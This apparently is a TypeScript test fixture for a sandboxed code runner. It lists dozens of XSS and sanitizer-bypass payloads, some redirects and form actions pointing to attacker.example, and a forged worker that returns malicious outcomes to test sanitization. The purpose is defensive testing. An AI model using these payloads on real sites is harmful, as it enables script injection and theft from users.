/*
 * Markup that has been used to get past sanitizers, and a worker that sends it as code that has taken the sandbox over
 * could: everything that crosses the border is the attacker's.
 */

/** What each payload does where it becomes markup that runs. */
const hit = 'window.escaped=1';
const image = `<img src=x onerror="${hit}">`;

/** Markup that HTML and XML read differently, or that runs by itself. */
export const payloads: readonly string[] = [
  `<script>${hit}</script>`,
  image,
  `<svg onload="${hit}"></svg>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><!-->${image}--></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><!--->${image}--></svg>`,
  `<svg><title><g><![CDATA[>${image}]]></g></title></svg>`,
  `<svg><?x >${image}?></svg>`,
  `<x:svg xmlns:x="http://www.w3.org/2000/svg"><!-->${image}--></x:svg>`,
  `<svg><desc>${image}</desc></svg>`,
  `<svg><title>${image}</title></svg>`,
  `<svg><foreignObject>${image}</foreignObject></svg>`,
  `<svg><style><${image}</style></svg>`,
  `<svg><style>&lt;/style>${image}</style></svg>`,
  `<svg></p><style><a id="</style>${image}">`,
  `<svg><p><style><!--</style>${image}--></style></p></svg>`,
  `<math><mtext><table><mglyph><style><!--</style>${image}`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${image}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${hit}</script>">`,
  `<math href="javascript:${hit}">click</math>`,
  `<noscript><p title="</noscript>${image}">`,
  `<noembed><b title="</noembed>${image}">`,
  `<noframes><b title="</noframes>${image}">`,
  `<xmp><b title="</xmp>${image}">`,
  `<textarea><b title="</textarea>${image}">`,
  `<title><b title="</title>${image}">`,
  `<template>${image}</template>`,
  `<template shadowrootmode="open">${image}</template>`,
  `<plaintext>${image}`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<object data="javascript:${hit}"></object>`,
  `<embed src="javascript:${hit}">`,
  `<a href="javascript:${hit}">Result</a>`,
  `<a href="java&#10;script:${hit}">Result</a>`,
  `<svg><a xlink:href="javascript:${hit}"><text>Result</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${hit}'/>#x"></use></svg>`,
  `<svg><animate onbegin="${hit}" attributeName="x" dur="1s"></svg>`,
  `<svg><set onbegin="${hit}" attributeName="x"></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${hit}"></animate><text>Result</text></a></svg>`,
  `<svg><image href="x" onerror="${hit}"></image></svg>`,
  `<svg><discard onbegin="${hit}"></svg>`,
  `<details open ontoggle="${hit}">x</details>`,
  `<video><source onerror="${hit}"></video>`,
  `<audio src=x onerror="${hit}"></audio>`,
  `<input autofocus onfocus="${hit}">`,
  `<body onload="${hit}">`,
  `<marquee onstart="${hit}">x</marquee>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${hit}"></b>`,
  `<b popover id=p ontoggle="${hit}">x</b><button popovertarget=p>x</button>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<base href="https://attacker.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
  `<form action="https://attacker.example/"><button>Send</button></form>`,
  `<img name="body"><img id="location">`,
  `<a id="escaped"></a><a id="escaped" name="x" href="https://attacker.example/"></a>`,
  `"><script>${hit}</script>`,
  `'" onmouseover="${hit}" x="`,
  `0"><${image}`,
  `\u0000${image}`,
  `&lt;img src=x onerror=${hit}&gt;`,
  `{{constructor.constructor('${hit}')()}}`,
  `<svg class="navbar navbar--fixed-top" id="__docusaurus" width="3000" height="3000"><rect class="navbar" width="3000" height="3000" fill="red"/></svg>`,
];

/** Elements that no outcome may hold, and attributes that none of its elements may have. */
export const foreign =
  'img, script, iframe, object, embed, style, link, base, meta, form, math, video, audio, [onload], [onerror]';

/** The address of a worker's source, in whose place `forgingWorker` is served. */
export const sandboxFile = /\/assets\/js\/sandbox-[\w-]+\.[0-9a-f]+\.js$/;

/** The forged outcome that is sent for code that consists of this number. */
function forge(all: readonly string[], number: number): unknown {
  const markup = all[number % all.length];
  const drawing = {svg: markup, alt: markup, width: 9, height: 9};
  const tokens = all.map((text) => ({text, value: text, html: text, dangerouslySetInnerHTML: {__html: text}}));
  if (number >= 2 * all.length) return {log: all, result: tokens, html: markup, drawing};
  if (number >= all.length) return {log: [], error: {name: markup, message: markup, code: 4, html: markup}, drawing};
  const ring = [
    [1, 1],
    [1, 2],
    [2, 2],
  ];
  const cell = {kind: 'cell', index: markup, group: 0, resolution: 9, pentagon: false, center: [1, 1], ring};
  return {log: [], scene: {shapes: [cell], inputs: [], total: 1, counted: true, svg: markup}, drawing};
}

/** The number of the forged outcome that has all payloads as its text; those before it have one each. */
export const allAsText = 2 * payloads.length;

/** A worker's source that speaks the language of the sandbox, and answers a number with the outcome that it stands for. */
export const forgingWorker = `
  const payloads = ${JSON.stringify(payloads)};
  const forge = ${forge.toString()};
  addEventListener('message', ({ports: [port]}) => {
    port.onmessage = ({data: {code}}) => {
      port.postMessage({started: true});
      port.postMessage({returned: true});
      port.postMessage({outcome: forge(payloads, Number(code))});
    };
    port.postMessage({ready: true});
  });`;
